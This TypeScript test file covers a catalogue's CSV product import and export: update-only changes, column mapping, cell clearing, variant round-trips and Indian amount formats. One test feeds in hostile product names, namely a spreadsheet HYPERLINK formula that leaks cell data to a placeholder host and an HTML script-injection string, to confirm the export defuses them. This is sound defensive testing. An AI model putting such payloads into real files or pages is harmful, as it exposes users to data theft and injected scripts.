import type { EditedProduct } from '@bijli/contract';
import { expect, test } from 'vitest';
import { countsOf, openImports } from '../../../../test/import-factory.ts';
import { createCompleteProduct, newSku, save } from '../../../../test/product-factory.ts';
import { refusalOf } from '../../../../test/refusal-of.ts';
import { storeOfFile } from '../../../../test/store-of-file.ts';
import { sql } from '../../../platform/database/drizzle.ts';

const [store, { catalogue, api, files, items }] = await storeOfFile(openImports);

const exported = async (search: string) =>
  new TextDecoder().decode((await api.exportCatalogue({ query: { search } })).bytes);

test('[IMP-10][C1-11] ten lines: 5 change, 2 are the same, 3 are wrong with line, column and reason; no product appears', async () => {
  const products = await items.several(7, 1049);
  for (const product of products.slice(5)) await save(api, product, { salePrice: 999 });
  const skus = products.map(({ document }) => document.sku);
  const count = () => store.rows(sql`SELECT count(*)::int AS count FROM products`);
  const before = await count();
  const file = `sku,price\n${skus.map((sku) => `${sku},999`).join('\n')}\nNOT-HERE,999\n,999\n${skus[0]},949\n`;
  const { of, lines } = await files.check(file, { isUpdateOnly: true });
  expect([of.state, of.lines, countsOf(of)]).toEqual(['checked', 10, [0, 5, 2, 3]]);
  expect(lines.filter(({ outcome }) => outcome === 'wrong').map(({ line, problems }) => [line, problems])).toEqual([
    [9, [{ column: 'sku', reason: 'There is no such SKU, and this import changes only what there is.' }]],
    [10, [{ column: 'sku', reason: 'It has no SKU.' }]],
    [11, [{ column: 'sku', reason: `${skus[0]} is on line 2 already.` }]],
  ]);
  expect(await items.priceOf(products[0] as EditedProduct)).toBe(1049);
  const { job } = await files.apply(of);
  expect(job).toMatchObject({ state: 'done', done: 5, leftOut: 0 });
  expect(await Promise.all(products.map(items.priceOf))).toEqual(Array.from({ length: 7 }, () => 999));
  expect(await count()).toEqual(before);
  const refused = await api.exportRefusedLines({ params: { id: of.id } });
  expect(new TextDecoder().decode(refused.bytes).split('\r\n')[3]).toBe(
    `11,sku: ${skus[0]} is on line 2 already.,${skus[0]},949`,
  );
});

test('[IMP-11][C1-11] nothing mapped, or no SKU: it cannot start', async () => {
  const { id, columns } = await files.upload('colour,weather\nred,fine\n');
  expect(columns).toEqual([null, null]);
  for (const chosen of [[null, null], ['price', null], ['sku', null], ['sku', 'sku'], ['sku', 'weather'], ['sku']]) {
    const refusal = await refusalOf(api.checkImport({ params: { id }, body: { columns: chosen } }));
    expect([refusal.status, refusal.message]).toEqual([422, expect.any(String)]);
  }
});

test('[IMP-12] the columns chosen for a source are suggested for its next file', async () => {
  const text = `Artikel,Betrag,MRP\n${newSku()},5,6\n`;
  const first = await files.upload(text, { source: 'supplier' });
  expect(first.columns).toEqual([null, null, 'mrp']);
  await api.checkImport({ params: { id: first.id }, body: { columns: ['sku', 'price', null] } });
  expect((await files.upload(text, { source: 'supplier' })).columns).toEqual(['sku', 'price', null]);
  expect((await files.upload(text, { source: 'other' })).columns).toEqual([null, null, 'mrp']);
});

test('[IMP-13][C1-10] empty cells keep what is there, -clear- clears, and what must be there is not cleared', async () => {
  const product = await createCompleteProduct(catalogue, { changes: { mpn: 'M-1', seoTitle: 'Fast' } });
  const { sku } = product.document;
  const { of, lines } = await files.check(`sku,price,mpn,seo title,stock,name\n${sku},949,,-clear-,,\n`);
  expect(lines[0]?.differences).toEqual([
    { column: 'seo title', area: 'text', was: 'Fast', becomes: '' },
    { column: 'price', area: 'price', was: '999.00', becomes: '949.00' },
  ]);
  await files.apply(of);
  const { document } = product;
  expect(await items.documentOf(product)).toEqual({ ...document, salePrice: 949, seoTitle: null });
  const second = await files.check(`sku,name\n${sku},-clear-\n`);
  expect(second.lines[0]?.problems).toEqual([{ column: 'name', reason: 'This cannot be cleared.' }]);
});

test('[IMP-14][C1-09] own export of 12 variants, imported twice, changes nothing; 3 lines leave the other 9', async () => {
  const sku = newSku();
  const colours = Array.from({ length: 12 }, (_, index) => `Shade ${index}`.replace(' ', '-'));
  const product = await createCompleteProduct(catalogue, { sku, colours });
  const file = await exported(sku);
  for (const _ of [1, 2]) expect(countsOf((await files.check(file)).of)).toEqual([0, 0, 12, 0]);
  const three = colours.slice(0, 3).map((colour) => `${sku}-${colour},949`);
  const { of } = await files.check(`sku,price\n${three.join('\n')}\n`);
  expect(countsOf(of)).toEqual([0, 3, 0, 0]);
  await files.apply(of);
  const { variantOrder, variants } = await items.documentOf(product);
  expect(variantOrder.map((id) => variants[id]?.salePrice)).toEqual([949, 949, 949, ...Array(9).fill(999)]);
});

test('[IMP-15][C1-08][C1-12][C1-15] markup, formulas and amounts come back from the own export as they were', async () => {
  const names = ['=HYPERLINK("http://x.example/?"&A1)', '@SUM(1)', '-2+3', 'Buds</script><img src=x onerror=alert(1)>'];
  const sku = newSku();
  for (const [index, name] of names.entries())
    await createCompleteProduct(catalogue, {
      sku: `${sku}-${index}`,
      name,
      changes: { basePrice: 123_456.5, salePrice: 33.61 },
    });
  const file = await exported(sku);
  expect(file).not.toMatch(/(^|,|\n)"?[=@+-](?!\d+(\.\d+)?["\r\n,])/m);
  const { of, lines } = await files.check(file);
  expect(countsOf(of)).toEqual([0, 0, 4, 0]);
  expect(lines.flatMap(({ differences }) => differences)).toEqual([]);
});

test('[IMP-16][C1-12] amounts in a file are read as in India, or refused with their line', async () => {
  const [product] = await items.several(1);
  const sku = product?.document.sku;
  for (const [text, mrp] of [
    ['"1,23,456.00"', 123_456],
    ['12499', 12_499],
    ['"₹ 12,499.50"', 12_499.5],
  ] as const) {
    const { lines } = await files.check(`sku,mrp\n${sku},${text}\n`);
    expect(lines[0]?.differences).toEqual([{ column: 'mrp', area: 'price', was: '9999.00', becomes: mrp.toFixed(2) }]);
  }
  for (const text of ['"12.499,00"', '1.2E+04', '12499.999', '-5', '"12,49,9"', '1,23,456.00']) {
    const { of, lines } = await files.check(`sku,mrp\n${sku},${text}\n`);
    expect([countsOf(of), lines[0]?.line]).toEqual([[0, 0, 0, 1], 2]);
  }
});
